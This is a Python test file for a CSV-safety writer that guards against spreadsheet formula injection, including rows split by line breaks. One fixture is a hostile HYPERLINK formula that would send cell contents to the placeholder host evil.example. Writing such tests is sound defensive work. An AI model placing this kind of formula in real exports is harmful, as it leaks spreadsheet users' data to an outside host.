"""``analysis.csv_safety``'s writer: a line break in a cell never splits a row, so no formula hides in the
next one; and every CSV the platform writes goes through it.

A bare carriage return was written unquoted (the csv module quotes only its terminator's characters,
``\\n`` here); a spreadsheet ends a row there, and the text after it began the next row, an un-neutralised
``=…``. Read back here as a spreadsheet reads it: rows end at ``\\n``, ``\\r\\n`` or a bare ``\\r`` outside
quotes (Python's csv reader with universal newlines)."""
from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from analysis import csv_safety

ROOT = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def _as_a_spreadsheet_reads(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("brk", ["\r", "\r\n", "\n", "\r\r", "\n\r"])
@pytest.mark.parametrize("many", [False, True], ids=["writerow", "writerows"])
def test_a_line_break_in_a_cell_stays_in_its_cell(brk: str, many: bool) -> None:
    rows = [["system", "score"], [f"alpha{brk}{FORMULA}", 71], [f"{brk}{FORMULA}", -0.5], ["beta", f"x{brk}"]]
    out = io.StringIO()
    writer = csv_safety.writer(out)
    if many:
        writer.writerows(rows)
    else:
        for values in rows:
            writer.writerow(values)
    read = _as_a_spreadsheet_reads(out.getvalue())
    # What was written, each cell as text, the one starting with a line break neutralised by hand:
    assert read == [["system", "score"], [f"alpha{brk}{FORMULA}", "71"], [f"'{brk}{FORMULA}", "-0.5"],
                    ["beta", f"x{brk}"]]


def test_rows_without_a_line_break_are_written_as_before() -> None:
    out = io.StringIO()
    csv_safety.writer(out).writerows([["a,b", 'say "hi"', "=1", -1.5, None, ""], ["x", "y", "z", 2, 3, 4]])
    assert out.getvalue() == '"a,b","say ""hi""",\'=1,-1.5,,\nx,y,z,2,3,4\n'
    crlf = io.StringIO()
    csv_safety.writer(crlf, lineterminator="\r\n").writerow(["a\rb", 1])
    assert crlf.getvalue() == '"a\rb",1\r\n'


def test_every_csv_the_platform_writes_goes_through_the_safe_writer() -> None:
    """A ``csv.writer`` or ``DictWriter`` anywhere else would write cells unneutralised and unquoted."""
    writers = re.compile(r"\bcsv\.(?:writer|DictWriter)\(")
    found = [f"{path.relative_to(ROOT)}:{n}" for package in ("da_platform", "analysis", "hit_builder", "da_core")
             for path in sorted((ROOT / package).rglob("*.py")) if path.name != "csv_safety.py"
             for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
             if writers.search(line)]
    assert found == []
